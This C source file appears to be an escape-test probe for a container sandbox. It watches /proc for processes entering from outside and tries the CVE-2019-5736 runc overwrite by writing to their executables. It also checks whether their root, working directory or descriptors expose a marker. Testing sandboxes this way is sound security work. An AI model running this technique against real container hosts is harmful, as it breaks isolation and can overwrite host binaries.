// catcher SECONDS MARKER: looks, until SIGTERM comes or for so long, for processes that enter this zone from outside and are
// not yet only the zone's: their executable opened for writing (CVE-2019-5736), their descriptors, memory, root and folder.
#include "attack.h"
#include <dirent.h>
#include <signal.h>
#include <time.h>

static const char *marker;
static volatile sig_atomic_t asked;

static void ask(int number) { asked = number; }

static void try_process(const char *pid) {
  char path[300], target[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  long length = readlink(path, target, sizeof target - 1);
  if (length > 0) {
    target[length] = 0;
    struct stat seen, ours;
    // What the zone's own tree does not have under that name came from outside.
    int foreign = stat(path, &seen) == 0 && (stat(target, &ours) < 0 || ours.st_ino != seen.st_ino || ours.st_dev != seen.st_dev);
    if (foreign) {
      int handle = open(path, O_PATH);
      snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
      // A program that runs cannot be written (ETXTBSY): the exploit tries until it ends.
      for (int i = 0; handle >= 0 && i < 200; i++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) {
          // Ours is sealed (memfd_create(2), F_SEAL_WRITE): it can be opened, and not one byte written.
          if (write(fd, "#!/bin/false\n", 13) > 0) printf("wrote %s: DONE\n", target);
          fflush(stdout);
          close(fd);
          break;
        }
      }
      if (handle >= 0) close(handle);
    }
  }
  snprintf(path, sizeof path, "/proc/%s/root%s", pid, marker);
  if (access(path, F_OK) == 0) printf("root of %s: DONE\n", pid), fflush(stdout);
  snprintf(path, sizeof path, "/proc/%s/cwd%s", pid, marker);
  if (access(path, F_OK) == 0) printf("cwd of %s: DONE\n", pid), fflush(stdout);
  for (int fd = 3; fd < 20; fd++) {
    snprintf(path, sizeof path, "/proc/%s/fd/%d%s", pid, fd, marker);
    if (access(path, F_OK) == 0) printf("descriptor %d of %s: DONE\n", fd, pid), fflush(stdout);
  }
}

int main(int argc, char **argv) {
  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
  marker = argc > 2 ? argv[2] : "/no-marker";
  int self = getpid();
  signal(SIGTERM, ask);
  puts("ready");
  fflush(stdout);
  while (!asked && time(NULL) < end) {
    DIR *list = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(list));)
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != self) try_process(entry->d_name);
    closedir(list);
  }
  puts("end");
  return 0;
}
